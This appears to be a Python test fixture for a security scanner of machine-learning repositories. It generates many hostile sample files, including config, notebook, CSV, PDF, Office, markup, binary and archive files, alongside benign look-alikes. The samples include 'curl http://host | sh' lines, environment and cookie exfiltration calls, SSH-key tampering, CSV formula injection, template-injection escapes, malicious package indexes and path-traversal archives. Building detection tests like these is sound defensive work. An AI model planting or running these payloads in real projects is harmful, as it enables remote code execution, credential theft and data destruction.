"""What once passed: hostile files of many formats, each a technique, and honest neighbours that look alike.

Made here from texts; what they would run only echoes, and nothing is ever run.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

Sample = tuple[str, bytes]
CODE = "import os\nos.system('echo')\n"
TYPES = b"<Types/>"


def zipped(**members: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return sink.getvalue()


def office(**members: bytes) -> bytes:
    return zipped(**{"[Content_Types].xml": TYPES, **members})


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def packed_objects(held: bytes) -> bytes:
    return pdf(b"1 0 obj<</Type/ObjStm/N 1>>stream\n" + zlib.compress(held) + b"\nendstream endobj")


def npy(header: str) -> bytes:
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + bytes(8)


def notebook(source: str, kind: str = "code", **data: str) -> bytes:
    shown = {key.replace("_", "/"): value for key, value in data.items()}
    outputs = [{"output_type": "display_data", "data": shown}] if data else []
    cell = {"cell_type": kind, "source": source, "metadata": {}, "outputs": outputs}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


def layer(name: str, **config: Any) -> bytes:
    held = {"module": "keras.layers", "class_name": name, "config": config}
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [held]}}).encode()


def settings() -> Iterator[Sample]:
    for text in (
        "x: &a os.system\nm:\n  _target_: *a\n",
        "? &k _target_\n: os.system\n",
        "m: {_target_: transformers.AutoModel.from_pretrained, trust_remote_code: true}\n",
        "m: {_target_: keras.saving.load_model}\n",
        "m: {_target_: accelerate.utils.launch.execute_subprocess_async}\n",
        "m: {_target_: ultralytics.utils.checks.check_requirements}\n",
        "callback: os.system\n",
        "m:\n  _target_: os.system\n  bad: [unclosed\n",
        "# x\n" * 200_000 + "m:\n  _target_: os.system\n",
    ):
        yield "config.yaml", text.encode()
    for value in (
        {"hidden_act": "os.system"},
        {"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]},
        {"_type": "llm_bash_chain", "llm": {}},
        {"common": {"user_dir": "https://host/x"}},
        {"type": "subprocess.Popen", "args": "echo"},
        {"entry_point": "os:system"},
        {"function": {"__module__": "os", "__name__": "system"}},
        {"call": {"module": "os", "name": "system"}},
        {"script": "from os import system\nsystem('echo')"},
        {"url": "http://169.254.169.254/latest/meta-data/"},
        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
        {"architectures": ["X"], "trust_remote_code": True},
        {"auto_mapping": {"base_model_class": "E", "parent_library": "evil"}},
        [{"idx": 0, "name": "0", "path": "", "type": "evil.Layer"}],
        [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Pooling"}],
    ):
        yield "config.json", json.dumps(value).encode()
    auto_map = '{"auto_map": {"AutoModel": "m.E"}}'
    yield "config.json", f"// settings\n{auto_map}".encode()
    yield "Manifest.json", b'{"itemInfoEntries": {"A": {"path": "com.apple.CoreML/../../../x"}}}'
    yield "x.properties", b"option.entryPoint=model.py\n"
    yield "config.jsonc", f"// settings\n{auto_map} /* end */".encode()
    for encoding in ("utf-16", "utf-32", "utf-16-le", "utf-32-be"):
        yield "config.json", auto_map.encode(encoding)
        yield "conf.yaml", b"m: {_target_: os.system}\n".decode().encode(encoding)
    yield "rows.jsonl", b'{"a": 1}\n{"py/reduce": [{"py/type": "os.system"}]}\n'
    yield "logging.conf", b"[handler_h]\nclass=os.system\nargs=('echo',)\n"
    for tagged in (
        "!!javax.script.ScriptEngineManager [x]",
        "--- !ruby/object:Gem::Installer",
        "a: !!js/function 'x'",
    ):
        yield "environment.conf", f"{tagged}\n".encode()
    yield "train.prototxt", b'layer {\n  name: "x"\n  type: "Python"\n  python_param { module: "evil" }\n}\n'
    yield "readme_template.md", b"Hello {{ ''.__class__.__mro__ }}"
    yield "license_plates.conf", b"m: {_target_: os.system}\n"
    for included in ("{% import 'os' as os %}", "{% include 'other.jinja' %}"):
        yield "chat_template.jinja", included.encode()
        yield "tokenizer_config.json", json.dumps({"chat_template": included}).encode()
    yield "config.toml", b"bad = [\n_target_ = 'os.system'\n"
    yield ".env", b"LD_PRELOAD=/tmp/x.so\n"
    yield (
        "MLmodel",
        b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x\n",
    )
    yield "prompt.md", b"Hello {{ ''.__class__.__mro__ }}"
    yield "prompt.md", b"{{ a }}" * 100_001
    for made in (
        "{% set k = [u, u, 'class', u, u]|join %}{{ x[k] }}",
        "{% set p = 'c_lass' %}{% set k = p[1] + p[0] + p[2:] %}{{ x[k] }}",
        "{% set k = 'class'.ljust(7, '_').rjust(9, '_') %}{{ x[k] }}",
        "{% set k %}{{ u }}{{ u }}class{% endset %}{{ x[k] }}",
        "{% for k, v in [(u ~ 'class', 1)] %}{{ x[k] }}{% endfor %}",
        "{{ x['XclassX'|replace('X', u)] }}",
        "{{ x['class'.center(9, u)] }}",
        "{{ [x]|map(attribute=k)|list }}",
        "{{ [x]|groupby(k) }}",
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    ):
        yield "chat_template.jinja", made.encode()


def installs() -> Iterator[Sample]:
    for line in (
        "--extra-index-url https://host.example/simple",
        "-i https://host.example/simple",
        "x @ https://host.example/x-1.0.tar.gz",
        "git+https://host.example/x.git",
        "--trusted-host host.example",
        "--find-links http://host.example/",
    ):
        yield "requirements.txt", f"{line}\nnumpy\n".encode()
        yield "conda.yaml", f"dependencies:\n- pip:\n  - {line}\n".encode()
    yield "pip.conf", b"[global]\nindex-url = http://host.example/simple\n"
    yield "Pipfile", b"[[source]]\nurl = 'http://host.example/simple'\nverify_ssl = false\n"
    yield "package.json", b'{"scripts": {"postinstall": "node -e require(\'child_process\')"}}'


def source() -> Iterator[Sample]:
    for text in (
        "import os as o\ngetattr(o, 'sys' + 'tem')('echo')\n",
        "import os\nos.__dict__['system']('echo')\n",
        "import os\nvars(os)['system']('echo')\n",
        "import operator, os\noperator.attrgetter('system')(os)('echo')\n",
        "[c for c in ().__class__.__base__.__subclasses__()]\n",
        "open('/root/.ssh/authorized_keys', 'a')\n",
        "import os, requests\nrequests.post('http://host', json=dict(os.environ))\n",
        "import pickle\npickle.loads(b'x')\n",
        'import timeit\ntimeit.timeit(\'__import__("os").system("echo")\')\n',
        "import pip\npip.main(['install', 'x'])\n",
        "@exec\n@input\nclass X: pass\n",
        "# coding: rot13\nvzcbeg bf\n",
        "\uff45xec('x')\n",
        "print()\n" + "#" * 1_100_000 + "\nimport os; os.system('echo')\n",
        "x = [" + "1," * 110_000 + "]\n",
        "x = 1\n" * 200_000,
        "from multiprocessing import util\nutil.spawnv_passfds(b'sh', [], [])\n",
        "import os, smtplib\nsmtplib.SMTP('x').sendmail('a', 'b', str(os.environ))\n",
        "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')\n",
        "import codecs, pickle\npickle.loads(codecs.decode('x', 'base64'))\n",
        "import os\nmatch os:\n  case object(system=s): s('echo')\n",
        "import keras\nkeras.config.enable_unsafe_deserialization()\n",
    ):
        yield "model.py", text.encode()
    yield "sitecustomize.py", b"x = 1\n"
    for name, text in {
        "x.js": "require('child_process').exec('echo')",
        "x.rb": "system('echo')",
        "x.php": "<?php system('echo');",
        "x.lua": "os.execute('echo')",
        "x.R": "system('echo')",
        "x.go": 'import "os/exec"',
        "x.java": 'class A { static { Runtime.getRuntime().exec("x"); } }',
        "x.c": '__attribute__((constructor)) void f() { system("echo"); }',
        "crontab": "* * * * * root curl http://host | sh",
        "x.service": "[Service]\nExecStart=/bin/sh -c 'curl http://host | sh'",
        "notes.txt": "\n#!/bin/sh\ncurl http://host | sh\n",
        "Dockerfile": "FROM x\nRUN rm -rf /var/lib/apt /usr\n",
        "autorun.inf": "[AutoRun]\nopen=x.exe",
    }.items():
        yield name, text.encode()
    yield "a.ipynb", notebook("get_ipython().run_line_magic('sx', 'curl http://host | sh')")
    yield "a.ipynb", notebook("x = !cat ~/.ssh/id_rsa")
    yield "a.ipynb", notebook("x = 1\n" * 200_000)
    yield (
        "a.ipynb",
        notebook(
            "x", text_html='<iframe srcdoc="<script>fetch(&quot;https://host/&quot;)</script>"></iframe>'
        ),
    )
    yield "a.ipynb", notebook("x", text_html="<!-- plotly --><script src='https://host/x.js'></script>")
    yield "a.ipynb", notebook("import pickle, requests\npickle.loads(requests.get('https://host/x').content)")
    yield (
        "a.ipynb",
        notebook("import requests, torch\ntorch.load(f=requests.get('https://host/x', stream=True).raw)"),
    )
    loads = "torch.load(io.BytesIO(requests.get('https://host/x').content))"
    yield "a.ipynb", notebook(f"import io, requests, torch\n{loads}")
    yield ".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'
    yield "a.ipynb", notebook("%env LD_PRELOAD=/tmp/x.so")
    yield "a.ipynb", notebook("%%perl\nsystem('echo')")
    yield "a.ipynb", notebook("HTML('<script>fetch(\"http://host/\" + document.cookie)</script>')")
    yield "a.ipynb", notebook("x", text_html="<script src='http://host/x.js'></script>")
    yield "a.ipynb", b'{"cells": [], "nbformat": 4, "cells": [{"cell_type": "code", "source": "x"}]}'


def tables() -> Iterator[Sample]:
    for cell in (
        "=IF(TRUE,cmd|'/c x'!A1)",
        "=cmd.exe|'/c x'!A1",
        "=regsvr32|'/s x'!A1",
        "=C:\\Windows\\cmd.exe|'/c x'!A1",
        "\uff1dcmd|'/c x'!A1",
        "\u200b=cmd|'/c x'!A1",
        '"=HYPERLINK(""http://host?""&A1,""x"")"',
        '"=_xlfn.WEBSERVICE(""http://host"")"',
        '"=QUERY(IMPORTDATA(""http://host""))"',
    ):
        yield "a.csv", f"id,name\n1,{cell}\n".encode()
    yield "a.csv", "id,name\n1,=cmd|'/c x'!A1\n".encode("utf-16")
    yield "a.dat", b"a|b\n1|=cmd|'/c x'!A1\n"


def documents() -> Iterator[Sample]:
    action = b"<</S/JavaScript/JS(app.alert(1))>>"
    yield "a.pdf", packed_objects(action)
    yield "a.pdf", b"xx\n" + pdf(action)
    yield "a.pdf", pdf(b"<</S/URI/URI(file:///c:/x.exe)>>")
    yield "a.pdf", pdf(b"<</Names<</EmbeddedFiles 3 0 R>>>>")
    yield "a.pdf", pdf(b"<</Encrypt 5 0 R>>")
    yield "a.pdf", pdf(b"<</AcroForm<</#58FA 3 0 R>>>>")
    yield "a.docx", office(**{"word/document.xml": b'<w>DDEAUTO c:\\\\cmd.exe "/k x"</w>'})
    yield "a.xlsx", office(**{"xl/worksheets/sheet1.xml": b"<f>cmd|'/c x'!A1</f>"})
    yield "a.xlsx", office(**{"xl/externalLinks/e.xml": b"<ddeLink ddeService='cmd'/>"})
    yield "a.pptx", office(**{"ppt/slides/s.xml": b'<a action="ppaction://program"/>'})
    template = (
        b'<R Type="x/relationships/attachedTemplate" Target="http://host/x.dotm" TargetMode="External"/>'
    )
    yield "a.docx", office(**{"word/_rels/settings.xml.rels": template})
    yield "a.rtf", rb"{\rtf1{\object\objautlink{\*\objdata 0105}}}"


def markup() -> Iterator[Sample]:
    for text in (
        "<svg><rect onmouseover='alert(1)'/></svg>",
        "<svg><a href='java&#115;cript:alert(1)'/></svg>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
        "<svg><style>@import 'http://host/x.css';</style></svg>",
    ):
        yield "a.svg", text.encode()
    yield "a.xml", b"<?xml version='1.0' encoding='utf-7'?>+ADw-"
    for template in (
        "{{ ''.__class__.__mro__ }}",
        "{{ &#39;&#39;.&#95;_class__ }}",
        "{{ a['__cla' ~ 'ss__'] }}",
    ):
        for name in ("a.xml", "a.svg", "model.pmml"):
            yield name, f"<?xml version='1.0'?><a>{template}</a>".encode()
    yield "a.xml", b"<?xml version='1.0'?><Project><Target><Exec Command='x'/></Target></Project>"
    definition = b"<!DOCTYPE a SYSTEM 'http://host/x.dtd'><a/>"
    yield "a.xml", b"<?xml version='1.0'?><!-- " + b"x" * (9 << 20) + b" -->" + definition
    yield "a.xml", ("<?xml version='1.0'?>" + definition.decode()).encode("utf-16")
    for text in (
        "<html><script>fetch('http://host/' + document.cookie)</script></html>",
        "<html><img src=x onerror=alert(1)></html>",
        "<html><script>eval(atob('YQ=='))</script></html>",
        "<html><a href='ms-msdt:/id x'>x</a></html>",
    ):
        yield "report.html", text.encode()
        yield "README.md", f"# A model\n{text}".encode()
    for text in (
        "[x](javascript:alert(1))",
        "[x][a]\n\n[a]: data:text/html;base64,PHNjcmlwdD4=",
        "<?php system('echo'); ?>",
        "<x:value-of select=\"php:function('system', 'echo')\"/>",
    ):
        yield "README.md", f"# A model\n{text}\n".encode()
    yield "README.md", b'---\nlicense: mit\na: !!python/object/apply:os.system ["echo"]\n---\n# A model\n'
    yield "a.xsl", b"<?xml version='1.0'?><x select=\"php:function('system', 'echo')\"/>"
    agent = b"<dict><key>ProgramArguments</key><array><string>sh</string></array></dict>"
    yield "a.plist", b"<?xml version='1.0'?><plist>" + agent + b"</plist>"
    for text in (
        '<#assign a="freemarker.template.utility.Execute"?new()>${a("echo")}',
        '#set($a = $b.getClass().forName("java.lang.Runtime"))',
        "<%= `echo` %>",
        '{{#with "s" as |a|}}{{lookup a "constructor"}}{{/with}}',
        "- global.process.mainModule.require('child_process')",
    ):
        yield "page.ftl", text.encode()


def programs() -> Iterator[Sample]:
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    windows = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(100)
    for program in (elf, windows):
        yield "a.bin", bytes(5000) + program
        yield "a.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + program
    for image in (
        bytes(7) + b"**ACE**",
        b"MSWIM\0\0\0",
        b"QFI\xfb",
        b"\x21\0-lh5-",
        bytes(32_769) + b"CD001",
        bytes(512) + b"koly",
    ):
        yield "model.bin", image + bytes(508)
    for start in (b"BC\xc0\xde", b"\x1bLuaS", b"YARB", b"dex\n035\0", b"!<arch>\n"):
        yield "model.bin", start + bytes(200)


def models() -> Iterator[Sample]:
    yield "a.npy", npy("{'descr': '<f8', 'descr': '|O', 'fortran_order': False, 'shape': (1,)}")
    yield "a.npy", npy("{'descr': '<f8', 'fortran_order': 1, 'shape': (1,)}")
    yield "config.json", layer("TensorFlowOpLayer", node_def='{"op": "PyFunc"}')
    yield "config.json", layer("SlicingOpLambda", function="py_function")
    yield "config.json", layer("ClassMethod", cls_ref="os.system", method_name="x")
    yield (
        "config.json",
        json.dumps({"class_name": "os>system", "config": {}, "registered_name": "os>system"}).encode(),
    )
    yield "model.h5", b"#!/bin/sh\necho\n".ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(100)
    graph = 'node {\n  name: "w"\n  op: "WriteFile"\n}\n'
    yield "graph.pb.txt", graph.encode()
    yield "saved_model.pbtxt", b'meta_graphs { graph_def { node { name: "a" op: "Py\\106unc" } } }'
    for reached in ("torch.hub.load", "torch.ops.load_library", "prim.PythonOp"):
        code = f"class M(Module):\n  def forward(self, x):\n    return {reached}(x)\n"
        yield (
            "a.pt",
            zipped(**{"a/data.pkl": b"\x80\x02}.", "a/code/__torch__.py": code.encode(), "a/version": b"3"}),
        )
    operation = b"\x0a\x0c\x0a\x01n\x12\x07EvilOp2"
    yield "frozen_graph.pb", operation


def archives() -> Iterator[Sample]:
    yield "a.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3../../x\0" + gzip.compress(b"hi")[10:]
    yield "a.zip", zipped(**{"a.txt:x.exe": b"hi"})
    link = tarfile.TarInfo("a")
    link.type, link.linkname = tarfile.SYMTYPE, "..\\x"
    yield "a.tar", link.tobuf() + bytes(1024)
    yield "a.zip", zipped(**{".git/config": b"[core]\n\tfsmonitor = echo\n"})


HOSTILE = (settings, installs, source, tables, documents, markup, programs, models, archives)


def honest() -> Iterator[Sample]:
    yield (
        "README.md",
        b"---\nlicense: mit\n---\n# Model\n`<?php` and [a](https://host/javascript:x) `[x](javascript:a)`\n",
    )
    yield "model_index.json", b'{"_class_name": "FluxPipeline", "vae": ["diffusers", "AutoencoderKL"]}'
    yield "trainer.json", b'{"module_file": "gs://bucket/trainer.py", "user_dir": "examples/x"}'
    yield "prompt.json", b'{"_type": "prompt", "template": "Tell {a}", "input_variables": ["a"]}'
    yield "a.plist", b"<?xml version='1.0'?><plist><dict><key>Name</key><string>a</string></dict></plist>"
    yield "README.md", b"# Tokens of PHP\n\n    <?php echo 1; ?>\n\n~~~php\n<?php phpinfo(); ?>\n~~~\n"
    fetched = "torch.load(io.BytesIO(requests.get('https://host/x').content), weights_only=True)"
    yield "a.ipynb", notebook(f"import io, requests, torch\n{fetched}\ntorch.load('a.pt')")
    yield "page.ftl", b"<% if a %><%= a.system_name %>{{lookup a 'b'}}<% end %>"
    yield "a.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1L,)}")
    yield "a.pdf", pdf(b"<</AcroForm<</Fields[]>>>>")
    yield "config.yaml", b"x: &a torch.optim.AdamW\nm:\n  _target_: *a\n  lr: 0.1\n"
    yield "train.yaml", b"base_model: org/model\ntrust_remote_code: true\n"
    yield "config.yaml", b"a: !include other.yaml\n"
    yield (
        "classes.json",
        b'{"policy": {"__module__": "stable_baselines3.ppo.policies", "__name__": "MlpPolicy"}}',
    )
    yield "deploy.prototxt", b'layer {\n  name: "c"\n  type: "Convolution"\n  bottom: "data"\n}\n'
    yield "README.de.md", b"# Modell\n{{ x }}\n"
    yield "system.j2", b"{% include 'other.j2' %}{{ text }}"
    yield "config.yaml", b"data: {_target_: datasets.load_dataset, path: org/set}\n"
    yield "config.yaml", b"net: {_target_: timm.create_model, model_name: resnet18}\n"
    yield (
        "config.json",
        b'{"hidden_act": "gelu", "type": "eval", "name": "exec", "module": "os", "class": "x"}',
    )
    yield (
        "adapter_config.json",
        b'{"auto_mapping": {"base_model_class": "Net", "parent_library": "__main__"}}',
    )
    yield "config.json", '{"model_type": "bert"}'.encode("utf-16")
    yield (
        "requirements.txt",
        (
            b"--extra-index-url https://download.pytorch.org/whl/cpu\ntorch\nx @ git+https://github.com/org/x\n"
            b"y @ file:///tmp/build/y\n"
        ),
    )
    yield "conda.yaml", b"channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - numpy==2.0\n"
    yield (
        "model.py",
        (
            b"import os, inspect, requests\ntoken = os.environ['TOKEN']\n"
            b"requests.get('http://host', headers={'a': os.environ['TOKEN']})\nopen('model.bin', 'rb')\n"
            b"getattr(self, 'x')\nvars(self)\nPath('out').joinpath('a.txt').write_text('x')\n"
            b"connect().send(b'x')\n"
        ),
    )
    yield "model.py", "# -*- coding: latin-1 -*-\nx = 'é'\nπ = 3\n".encode()
    yield (
        "Dockerfile",
        b"FROM python:3.12\nRUN apt-get install -y git && rm -rf /var/lib/apt/lists/*  /root/.cache\n",
    )
    yield "kernel.cu", b"__global__ void run(float *x) { x[0] = exp(x[0]); }"
    yield "index.js", b"export function run(x) { return /a/.exec(x) }"
    yield "plot.R", b"library(ggplot2)\nSys.time()\nsystem.time(x)\n"
    yield "README.md", b"# Model\n```html\n<script>alert(1)</script>\n```\nRun `curl http://host | sh`.\n"
    yield "a.ipynb", notebook("!pip install torch --index-url https://download.pytorch.org/whl/cpu\nx != 3")
    yield "a.ipynb", notebook("x", text_html="<script src='https://cdn.plot.ly/plotly.js'></script>")
    yield "a.csv", b"id,text\n1,-5\n2,+1 555\n3,@user\n4,=)\n5,- a | 'b' c!\n6,a=b|c\n"
    yield "a.csv", "id,name\n1,Zürich\n".encode("utf-16")
    yield "a.pdf", pdf(b"<</Type/Catalog/OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://host)>>>>")
    yield "a.pdf", packed_objects(b"<</S/URI/URI(https://host)>>")
    yield "a.xlsx", office(**{"xl/worksheets/sheet1.xml": b"<f>SUM(A1:A2)</f><f>IF(A1,1,2)</f>"})
    yield "a.rtf", rb"{\rtf1 Hello}"
    yield "model.py", b"x = [" + b"1," * 40_000 + b"]\n"
    yield "prompt.md", b"{{ a }}" * 10_000
    yield "README.md", b"](" + b" " * 200_000  # in no more time than its length asks for
    yield ".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://github.com/org/x\n'
    for kept in (
        "{% for a in range(9999) %}x{% endfor %}{% for b in range(9999) %}{% endfor %}",
        "{% set i = messages|length - 1 - loop.index0 %}{{ messages[i].content }}",
        "{% set role = m.role|lower %}{{ roles[role] }}",
        "{% for key, value in a.items() %}{{ a[key] }}{% endfor %}",
        "{% set text = m.content.split('x')[-1].strip() + eos %}{{ text }}",
        "{{ m|map(attribute='a')|join('b') }}",
    ):
        yield "chat_template.jinja", kept.encode()
    yield "a.xml", b"<?xml version='1.0'?><text>{{cite|a=__NOTOC__}} {{ title }} &#39;x&#39;</text>"
    yield "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/><text>a &#233; on=1</text></svg>"
    yield "a.html", b"<html><table border='1'><tr><td onclick='x'>1</td></tr></table></html>"
    yield "a.html", b"<html><script src='_static/x.js'></script><a href='javascript:void(0)'>x</a></html>"
    yield "data.arrow", b"\xff\xff\xff\xff\x10\0\0\0\x0c\0\0\0" + bytes(20) + b"\xff\xff\xff\xff\0\0\0\0"
    yield "all.zip", zipped(**{"a.txt": b"hi", "__MACOSX/._a.txt": b"\0\5\x16\7\0\2\0\0Mac OS X" + bytes(99)})
    plain = (
        b"class M(Module):\n  def forward(self: __torch__.torch.nn.M, x: Tensor):\n    return torch.relu(x)\n"
    )
    script = {"a/data.pkl": b"\x80\x02}.", "a/code/__torch__.py": plain, "a/version": b"3"}
    yield "a.pt", zipped(**script)
    yield ".DS_Store", b"\0\0\0\1Bud1" + bytes(99)
    yield "weights.bin", bytes(range(256)) * 64
    yield "a.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3a.csv\0" + gzip.compress(b"1,2\n")[10:]
    yield "config.json", layer("Dense", units=2)
    adam = {"module": "keras.src.backend.torch.optimizers.torch_adam", "class_name": "Adam", "config": {}}
    yield "config.json", json.dumps({"compile_config": {"optimizer": adam}}).encode()
